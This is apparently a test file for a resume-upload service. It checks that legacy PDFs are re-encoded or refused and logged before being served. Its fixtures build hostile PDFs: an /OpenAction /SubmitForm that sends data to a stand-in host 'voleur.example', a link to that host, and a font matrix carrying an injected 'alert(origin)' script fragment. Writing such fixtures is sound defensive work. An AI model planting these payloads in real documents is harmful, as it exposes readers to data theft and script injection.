import { currentUser } from "contract/account.ts";
import { checkFiles } from "contract/operator.ts";
import { expect, it } from "vitest";
import { resumeOf, storedResume } from "../../../proof/testing/pdf.ts";
import { OPERATOR_KEY, useTestApp } from "../../../proof/testing/test-app.ts";
import { hashOf } from "../../secrets.ts";
import { makeCandidate } from "../intake/make.ts";
import { makeHolder } from "../login/make.ts";
import { RESUME_MAKING } from "./encode-resume.ts";
import { storeFile } from "./store-file.ts";

const test = useTestApp();
const LINK = "/Annots [<</Subtype /Link /Rect [0 0 9 9] /A <</S /URI /URI (https://voleur.example/)>>>>]";
const LINKED = resumeOf("CV", { page: LINK });
const SENDING = resumeOf("CV", { catalog: "/OpenAction <</S /SubmitForm /F (https://voleur.example/)>>" });

/** A resume as an earlier version stored it: as it came, or made anew by a making that kept more than today's. */
async function storeAsItCame(name: string, bytes: Buffer, made: { stored_sha256?: string } = {}): Promise<void> {
  await makeCandidate(test.world, { personalResume: name });
  const storedAs = test.world.random.token();
  await test.world.files.put(storedAs, bytes);
  const file = {
    name,
    stored_as: storedAs,
    content_type: "application/pdf",
    size: bytes.length,
    sha256: hashOf(bytes),
    ...made,
  };
  await test.world.db
    .insertInto("files")
    .values({ ...file, created_at: test.clock.now() })
    .execute();
}
const rows = () => test.world.db.selectFrom("files").selectAll().orderBy("name").execute();
const check = () => test.answer(checkFiles, {}, { token: OPERATOR_KEY });

it("T-38 resumes of an earlier version are made anew once, and one that is refused today is served no more", async () => {
  await storeAsItCame("lien.pdf", LINKED);
  await storeAsItCame("envoi.pdf", SENDING);
  await storeAsItCame("perdu.pdf", LINKED);
  const lost = (await rows()).find(({ name }) => name === "perdu.pdf");
  await test.world.files.delete(lost?.stored_as ?? "");
  await storeFile(test.world, "neuf.pdf", resumeOf("Neuf"));
  const before = await rows();

  await test.jobs.drain();
  const { fileToken } = await test.answer(currentUser, {}, { token: await test.tokenOf(await makeHolder(test.world)) });
  const get = (name: string) => test.app.inject(`/veterinary/file/${fileToken}/${name}`);
  expect((await get("lien.pdf")).rawPayload.equals(storedResume(LINKED))).toBe(true);
  expect((await get("envoi.pdf")).statusCode).toBe(404);
  const after = await rows();
  expect(after.map(({ name, scan_state, scan_found }) => [name, scan_state, scan_found])).toEqual([
    ["envoi.pdf", "refused", "pdfSendsData"],
    ["lien.pdf", "pending", null],
    ["neuf.pdf", "pending", null],
    ["perdu.pdf", "pending", null],
  ]);
  expect(after.find(({ name }) => name === "neuf.pdf")).toEqual(before.find(({ name }) => name === "neuf.pdf"));
  // The bytes of before are gone, what is there is whole, and the operator is told the names.
  expect(await check()).toMatchObject({ rows: 4, objects: 3, missing: ["perdu.pdf"], altered: [], orphans: [] });
  expect((await check()).withheld).toEqual([{ name: "envoi.pdf", found: "pdfSendsData" }]);
  const events = await test.world.db.selectFrom("audit_events").select(["event", "details"]).execute();
  expect(events.filter(({ event }) => event === "resume refused")).toMatchObject([
    { details: { fault: "pdfSendsData" } },
  ]);

  await test.jobs.drain();
  expect(await rows()).toEqual(after);
});

it("T-38 a resume of an earlier making is made anew before anybody sees it, whether its turn has come or not", async () => {
  const font = "<</Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 2 3 4 5 (1\\); alert\\(origin)]>>";
  const matrix = resumeOf("CV", { page: "/Resources <</Font <</A 6 0 R>>>>", objects: [font] });
  const { orphans } = await check();
  await storeAsItCame("matrice.pdf", matrix, { stored_sha256: hashOf(matrix) });
  await storeAsItCame("envoi.pdf", SENDING, { stored_sha256: hashOf(SENDING) });
  await storeAsItCame("tour.pdf", LINKED, { stored_sha256: hashOf(LINKED) });
  const { fileToken } = await test.answer(currentUser, {}, { token: await test.tokenOf(await makeHolder(test.world)) });
  const get = (name: string) => test.app.inject(`/veterinary/file/${fileToken}/${name}`);

  const both = await Promise.all([get("matrice.pdf"), get("matrice.pdf")]);
  for (const { statusCode, rawPayload } of both) {
    expect([statusCode, rawPayload.equals(storedResume(matrix))]).toEqual([200, true]);
    expect(rawPayload.includes("FontMatrix")).toBe(false);
  }
  expect((await get("envoi.pdf")).statusCode).toBe(404);
  await test.jobs.drain();
  expect((await get("tour.pdf")).rawPayload.equals(storedResume(LINKED))).toBe(true);
  expect(await check()).toMatchObject({ rows: 3, missing: [], altered: [], orphans });
  expect((await rows()).map(({ name, made_by }) => [name, made_by])).toEqual([
    ["envoi.pdf", null],
    ["matrice.pdf", RESUME_MAKING],
    ["tour.pdf", RESUME_MAKING],
  ]);
});

it("T-38 a resume whose bytes come back after its turn is made anew before anybody sees it", async () => {
  await storeAsItCame("absent.pdf", LINKED);
  const storedAs = (await rows())[0]?.stored_as ?? "";
  await test.world.files.delete(storedAs);
  await test.jobs.drain();
  const { fileToken } = await test.answer(currentUser, {}, { token: await test.tokenOf(await makeHolder(test.world)) });
  const get = () => test.app.inject(`/veterinary/file/${fileToken}/absent.pdf`);
  expect((await get()).statusCode).toBe(404);
  await test.world.files.put(storedAs, LINKED);
  expect((await get()).rawPayload.equals(storedResume(LINKED))).toBe(true);
});

it("T-38 the same resume sent again is made anew, or refused with its sentence", async () => {
  await storeAsItCame("lien.pdf", LINKED);
  await storeAsItCame("envoi.pdf", SENDING);
  expect(await storeFile(test.world, "lien.pdf", LINKED)).toEqual({ outcome: "stored" });
  expect(await storeFile(test.world, "lien.pdf", LINKED)).toEqual({ outcome: "unchanged" });
  expect(await storeFile(test.world, "envoi.pdf", SENDING)).toMatchObject({ fault: "pdfSendsData" });
});
